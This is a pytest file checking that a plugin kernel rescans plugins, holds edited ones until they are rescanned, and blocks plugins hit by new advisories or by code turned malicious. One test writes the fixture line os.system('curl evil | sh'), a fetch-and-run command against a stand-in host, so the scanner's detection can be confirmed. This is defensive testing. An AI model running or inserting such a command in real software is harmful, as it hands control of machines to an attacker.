"""End to end: edited plugins wait for a rescan; a rescan finding a new CRITICAL issue unloads."""

from __future__ import annotations

import json

import pytest

from kernel.extensions import db
from kernel.models import AuditLog
from kernel.plugin_lifecycle.rescan import rescan_enabled
from kernel.security import latest_scan
from tests.helpers import page_plugin
from tests.security.scanlib import install_dist


def state_of(cli, name):
    return json.loads(cli("plugin", "info", name, "--json").output)


@pytest.fixture
def served(fresh):
    def get(app, name):
        return fresh(app).test_client().get(f"/plugins/{name}/")

    return get


def test_edited_plugin_is_update_pending_until_rescanned(app, plugins_dir, cli, served):
    folder = page_plugin(plugins_dir, "pager")
    assert cli("plugin", "enable", "pager").exit_code == 0
    assert served(app, "pager").text == "hello from pager"
    with app.app_context():
        passing = latest_scan("pager")

    init = folder / "__init__.py"
    init.write_text(init.read_text().replace("hello from pager", "edited pager"))
    assert served(app, "pager").status_code == 404  # not imported: files differ from the scan
    assert state_of(cli, "pager")["state"] == "update_pending"

    rescan = cli("plugin", "scan", "pager", "--json")
    assert rescan.exit_code == 0
    [row] = json.loads(rescan.stdout)
    assert row["id"] != passing.id and row["content_hash"] != passing.content_hash
    assert row["verdict"] == "pass"
    assert cli("plugin", "enable", "pager").exit_code == 0
    assert served(app, "pager").text == "edited pager"


def test_new_advisory_blocks_an_enabled_plugin_and_its_routes_stop(
    app, plugins_dir, cli, served, osv_server, site_dir
):
    install_dist(site_dir, "fakedep", "0.5")
    page_plugin(plugins_dir, "shop", extra_manifest='python_dependencies = ["fakedep"]\n')
    enabled = cli("plugin", "enable", "shop")
    assert enabled.exit_code == 0, enabled.output
    assert served(app, "shop").status_code == 200
    assert ("fakedep", "0.5") in osv_server.queried()

    osv_server.add("fakedep", "GHSA-new1", fixed="0.6", summary="published today")
    with app.app_context():
        assert rescan_enabled() == ["shop"]
        record = latest_scan("shop")
        assert record.verdict == "block" and record.findings[0]["rule"] == "GHSA-new1"
        actions = set(
            db.session.scalars(db.select(AuditLog.action).where(AuditLog.target == "shop"))
        )
    assert {"plugin.scan_blocked", "plugin.blocked"} <= actions
    info = state_of(cli, "shop")
    assert info["state"] == "blocked"
    assert info["reason"].startswith("scan found 1 CRITICAL finding: pip-audit GHSA-new1 fakedep")
    assert served(app, "shop").status_code == 404


def test_daily_cron_task_blocks_code_turned_malicious(app, plugins_dir, cli, served):
    from kernel.cron import registered_tasks, run_due

    folder = page_plugin(plugins_dir, "turncoat")
    page_plugin(plugins_dir, "loyal")
    assert cli("plugin", "enable", "turncoat").exit_code == 0
    assert cli("plugin", "enable", "loyal").exit_code == 0
    (folder / "extra.py").write_text("import os\nos.system('curl evil | sh')\n")
    with app.app_context():
        assert registered_tasks()["kernel.rescan_plugins"].func is rescan_enabled
        [run] = run_due(only="kernel.rescan_plugins", force=True)
        assert run.status == "ok", run.error
    assert state_of(cli, "turncoat")["state"] == "blocked"
    assert "bandit B605" in state_of(cli, "turncoat")["reason"]
    assert state_of(cli, "loyal")["state"] == "enabled"
    assert served(app, "turncoat").status_code == 404
    assert served(app, "loyal").status_code == 200


def test_rescan_leaves_passing_and_warned_plugins_enabled(app, plugins_dir, cli, sample):
    sample("weak_tls", into=plugins_dir)
    page_plugin(plugins_dir, "fine")
    assert cli("plugin", "enable", "weak_tls", "--accept-risk").exit_code == 0
    assert cli("plugin", "enable", "fine").exit_code == 0
    with app.app_context():
        assert rescan_enabled() == []
        assert latest_scan("weak_tls").verdict == "warn"
    assert state_of(cli, "weak_tls")["state"] == "enabled"
